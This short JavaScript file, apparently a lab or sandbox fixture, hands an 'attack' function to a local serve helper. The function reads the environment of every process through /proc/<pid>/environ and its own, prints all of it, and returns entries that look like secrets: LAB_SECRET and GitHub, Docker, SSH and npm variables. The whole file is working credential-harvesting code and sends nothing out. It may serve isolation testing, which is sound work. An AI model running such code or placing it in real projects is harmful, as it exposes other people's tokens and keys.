import { readdirSync, readFileSync } from 'node:fs';
import { serve } from './service.mjs';

serve({
  attack() {
    const found = readdirSync('/proc')
      .filter((name) => /^\d+$/.test(name))
      .flatMap((pid) => {
        try {
          return readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0');
        } catch {
          return [];
        }
      });
    found.push(...Object.entries(process.env).map(([name, value]) => `${name}=${value}`));
    const secrets = found.filter((entry) => /^(LAB_SECRET|GITHUB_|DOCKER_|SSH_|NPM_)/.test(entry));
    console.log(found.join('\n'));
    return [...new Set(secrets)];
  },
});
